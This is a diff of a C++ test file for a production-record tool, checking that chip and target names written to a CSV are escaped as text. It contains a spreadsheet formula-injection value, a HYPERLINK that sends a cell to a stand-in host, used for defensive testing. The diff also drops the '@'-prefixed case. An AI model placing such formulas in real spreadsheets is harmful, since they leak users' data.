@@ -76,13 +76,13 @@ TEST_F(ProductionTest, ACycleCountsEachBoardOnceRecordsItAndTheCountsSurviveARes
     EXPECT_TRUE(again.band.failsText.empty());
 }
 
-// A chip name an adapter reports and a target name are text to a spreadsheet, never formulas.
+// A chip name an adapter reports and a target name are text to a spreadsheet, never formulas;
+// the record's own numbers stay numbers.
 TEST_F(ProductionTest, FieldsThatWouldRunAsFormulasAreReadBackAsText) {
     env_.WriteTrg({"-1+2"});  // the identity of QX16A064
     env_.WriteIni(ini_ + "TRGNAME=-1+2\r\n");
     const std::string link = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
     bench_->chip(0).setChipName(link);
-    bench_->chip(2).setChipName("@SUM(1+1)");
     FakeDialogView view;
     Run(view, [&](CQuorvelDlg&, DialogEvents& e) {
         e.OnCommand(IDC_PLUG);
@@ -90,15 +90,10 @@ TEST_F(ProductionTest, FieldsThatWouldRunAsFormulasAreReadBackAsText) {
     });
     const auto rows = ReadCsvWithPython((env_.bin / "Quorvel-record.csv").string());
     ASSERT_EQ(rows.size(), 4u);
-    const std::vector<std::string> first = rows[1];
-    ASSERT_EQ(first.size(), 12u);
-    EXPECT_EQ(first[5], "'-1+2");
-    EXPECT_EQ(first[6], "'" + link);
-    EXPECT_EQ(rows[3][6], "'@SUM(1+1)");
+    EXPECT_EQ(rows[1][5] + " " + rows[1][6], "'-1+2 '" + link);
     EXPECT_EQ(rows[2][6], bench_->chip(1).chipName()) << "a plain name stays as it was";
-    EXPECT_EQ(first[3], "1");
-    EXPECT_EQ(first[9], "0x0000");
-    EXPECT_EQ(first[11].find_first_not_of("0123456789"), std::string::npos) << first[11];
+    EXPECT_EQ(rows[1][3] + " " + rows[1][9], "1 0x0000");
+    EXPECT_EQ(rows[1][11].find_first_not_of("0123456789"), std::string::npos) << rows[1][11];
 }
 
 TEST_F(ProductionTest, WriteShowsItsBlocksWhileItRunsAndTheBandEmptiesWhenIdle) {
